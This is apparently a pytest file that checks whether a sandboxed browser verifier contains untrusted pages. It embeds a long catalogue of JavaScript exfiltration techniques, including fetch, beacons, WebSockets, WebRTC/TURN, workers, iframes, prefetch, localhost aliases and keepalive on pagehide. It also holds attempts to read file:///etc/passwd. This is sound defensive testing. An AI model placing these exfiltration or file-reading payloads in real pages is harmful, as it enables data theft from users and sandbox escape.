"""A page that tries every way out: a listener outside hears nothing, nothing of ours can be read."""

import selectors
import socket
import tempfile
import threading
import time
from collections.abc import Iterable, Mapping
from pathlib import Path

import psutil
import pytest

from orchestrator.records import Kind, Status
from orchestrator.records.site import Site
from orchestrator.runtime.processes import descendants, is_alive
from orchestrator.verify.page.inspection import MOST_PAGES
from orchestrator.verify.plan.check_types import PageScript, Plan, PlannedCheck
from orchestrator.verify.verifier import Verifier
from tests.verify.conftest import Look
from tests.verify.corpus.case import page

SHOWN = PlannedCheck("what it shows", Kind.JS, 1, PageScript("document.documentElement.innerText", ""))


class Listeners:
    """One loopback port for each way out, TCP and UDP, and what was heard on them."""

    def __init__(self, ways: Iterable[str]) -> None:
        self.heard: set[str] = set()
        self.ports: dict[str, int] = {}
        self._selector = selectors.DefaultSelector()
        for way in ways:
            tcp = socket.create_server(("127.0.0.1", 0))
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.bind(tcp.getsockname())
            self.ports[way] = tcp.getsockname()[1]
            for each in (tcp, udp):
                self._selector.register(each, selectors.EVENT_READ, way)
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            for key, _ in self._selector.select():
                self.heard.add(key.data)
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                if sock.type is socket.SOCK_STREAM:
                    sock.accept()[0].close()
                else:
                    sock.recv(2000)


WAYS_OUT = {
    "fetch": "fetch(OUT).catch(() => {})",
    "fetch by name": "fetch(OUT.replace('127.0.0.1', 'localhost')).catch(() => {})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('POST', OUT); x.send('s')",
    "beacon": "navigator.sendBeacon(OUT, 'secret')",
    "image": "new Image().src = OUT",
    "style": "add(`<link rel=stylesheet href='${OUT}'>`)",
    "frame": "add(`<iframe title=f src='${OUT}'></iframe>`)",
    "worker": "new Worker(code(`fetch('${OUT}').catch(() => {}); try { importScripts('${OUT}') } catch {}`))",
    "shared worker": "new SharedWorker(code(`fetch('${OUT}').catch(() => {})`))",
    "service worker": "navigator.serviceWorker.register('sw.js').catch(() => {})",
    "WebSocket": "new WebSocket(OUT.replace('http', 'ws'))",
    "EventSource": "new EventSource(OUT)",
    "WebRTC": "const c = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${PORT}`}]});"
    "c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o))",
    "popup": "window.open(OUT)",
    "popup of a click": "follow({target: '_blank'})",
    "prefetch": "for (const rel of ['dns-prefetch', 'preconnect', 'prefetch'])"
    "add(`<link rel=${rel} href='${OUT}'>`)",
    "form": "add(`<form action='${OUT}' method=post target=_blank></form>`); document.forms[0].submit()",
    "ping": "follow({href: '#x', ping: OUT})",
    "video": "add(`<video src='${OUT}' autoplay muted></video>`)",
    "import and address of a style": "add(`<style>@import url(${OUT}); main {mask: url(${OUT})}</style>`)",
    "font": "new FontFace('F', `url(${OUT})`).load().catch(() => {})",
    "object and embed": "add(`<object data='${OUT}'></object><embed src='${OUT}'>`)",
    "other pictures": "add(`<img srcset='${OUT} 1x' alt=x><svg><image href='${OUT}'/></svg>`)",
    "module": "import(OUT).catch(() => {})",
    "socket of a worker": "new Worker(code(`new WebSocket('${OUT}'.replace('http', 'ws'))`))",
    "frame of a blob": "add(`<iframe title=f src='${URL.createObjectURL(new Blob([`<img src=${OUT}>"
    "<script>new WebSocket('${OUT}'.replace('http', 'ws'))<\\/script>`], {type: 'text/html'}))}'></iframe>`)",
    "frame of data": "add(`<iframe title=f src=\"data:text/html,<img src='${OUT}'>\"></iframe>`)",
    "WebTransport": "new WebTransport(OUT.replace('http', 'https')).closed.catch(() => {})",
    "relay over TCP": "const c = new RTCPeerConnection({iceTransportPolicy: 'relay', iceServers: [{"
    "username: 'u', credential: 'c',"
    "urls: [`turn:127.0.0.1:${PORT}?transport=tcp`, `turn:localhost:${PORT}`]}]});"
    "c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o))",
    "other names of this machine": "for (const name of ['localhost.localdomain', 'x.localhost', '0.0.0.0',"
    "'[::1]', '[::ffff:127.0.0.1]', '2130706433', '0x7f000001', '127.1', 'cdn.jsdelivr.net@127.0.0.1'])"
    "new Image().src = OUT.replace('127.0.0.1', name)",
}

# these leave the page, or do nothing beside the others: each gets a page of its own
APART = {
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules';"
    "s.text = JSON.stringify({prefetch: [{urls: [OUT]}], prerender: [{urls: [OUT]}]});"
    "document.head.append(s)",
    "download": "follow({download: 'x'})",
    "last words": "addEventListener('pagehide', () => fetch(OUT, {keepalive: true})); location.href = '?x'",
    "refresh": "document.head.insertAdjacentHTML('beforeend',"
    "`<meta http-equiv=refresh content='0;url=${OUT}'>`)",
    "navigation": "navigation.navigate(OUT)",
    "leaving": "location.href = OUT",
}

TOOLS = """
const OUT = `http://127.0.0.1:${PORT}/secret`;
const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
const code = (text) => URL.createObjectURL(new Blob([text]));
const follow = (fields) => {
  const a = Object.assign(document.createElement('a'), {href: OUT}, fields);
  document.body.append(a);
  a.click();
};
"""


def trying(ways: Iterable[str], ports: Mapping[str, int]) -> str:
    """A page that tries these ways, each in a script of its own."""
    scripts = [f"const PORT = {ports[way]};{TOOLS}{WAYS_OUT.get(way) or APART[way]}" for way in ways]
    code = "\n".join(f"<script>{{{script}}}</script>" for script in scripts)
    return page().replace("</body>", f"{code}</body>")


@pytest.fixture(scope="module")
def listeners() -> Listeners:
    return Listeners([*WAYS_OUT, *APART])


@pytest.fixture(scope="module")
def sites(listeners: Listeners) -> list[dict[str, str]]:
    """The first page of the first site tries all ways that leave it whole; linked pages try the others."""
    ports, found = listeners.ports, []
    for first in range(0, len(APART), MOST_PAGES):
        ways = {f"page{n}.html": way for n, way in enumerate(list(APART)[first : first + MOST_PAGES])}
        links = "".join(f'<a href="{name}">{name}</a>' for name in ways)
        index = trying(() if first else WAYS_OUT, ports).replace("</main>", f"{links}</main>")
        worker = f"fetch('http://127.0.0.1:{ports['service worker']}')"
        apart = {name: trying([way], ports) for name, way in ways.items()}
        found.append({"index.html": index, "sw.js": worker, **apart})
    return found


def test_nothing_gets_out(sites: list[dict[str, str]], look: Look, listeners: Listeners) -> None:
    for files in sites:
        assert "page comes to rest" not in [r.check for r in look(files).counted(Status.FAILED)]
    assert listeners.heard == set()


def test_the_listeners_would_hear() -> None:
    outside = Listeners(["tcp", "udp"])
    with socket.create_connection(("127.0.0.1", outside.ports["tcp"])) as connection:
        connection.recv(1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(b"x", ("127.0.0.1", outside.ports["udp"]))
        for _ in range(500):
            if outside.heard == {"tcp", "udp"}:
                return
            time.sleep(0.01)
    pytest.fail(f"only {outside.heard} was heard")


READING = (
    "fetch('file:///etc/passwd').then(r => r.text()).then(t => { document.body.append(t) }, () => {});"
    "document.body.insertAdjacentHTML('beforeend', `<iframe title=f src='file:///etc/passwd'></iframe>`)"
)


@pytest.mark.parametrize("script", [READING, "location.href = 'file:///etc/passwd'"])
def test_files_of_this_machine_cannot_be_read(script: str, look: Look) -> None:
    assert "root:" not in look(page(script=script), SHOWN).model_dump_json()


@pytest.mark.usefixtures("browser_there")
def test_a_browser_of_its_own_knows_no_secret_keeps_pictures_and_ends_whatever_folder_it_gets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    deep = tmp_path / ("runner-temp-" * 8) / "tmp"  # too long for a socket's path
    deep.mkdir(parents=True)
    monkeypatch.setenv("TMPDIR", str(deep))
    monkeypatch.setattr(tempfile, "tempdir", None)
    monkeypatch.setenv("OPENAI_API_KEY", "the-key-of-the-house")
    with Verifier(tmp_path / "screenshots", online=False) as fresh:
        verdict = fresh.verify(Site({"index.html": page().encode()}), Plan(checks=()))
        assert fresh.browser._child is not None
        pid = fresh.browser._child._process.pid
        family = [psutil.Process(pid), *descendants(pid)]
        environments = [_environment(process) for process in family]
    psutil.wait_procs([process for process in family if is_alive(process)], timeout=10)  # they were killed
    assert sum(b"HOME=" in each for each in environments) >= 3
    assert [each for each in environments if b"the-key-of-the-house" in each] == []
    assert [process for process in family if is_alive(process)] == []
    assert verdict.counted(Status.NOT_RUN) == ()
    pictures = {p.name: p.read_bytes()[:8] for p in (tmp_path / "screenshots").iterdir()}
    assert pictures == dict.fromkeys(("phone.png", "desktop.png"), b"\x89PNG\r\n\x1a\n")
    assert {r.screenshot for r in verdict.results} == {None, *pictures}


def _environment(process: psutil.Process) -> bytes:
    try:
        return Path(f"/proc/{process.pid}/environ").read_bytes()
    except (ProcessLookupError, FileNotFoundError):
        return b""
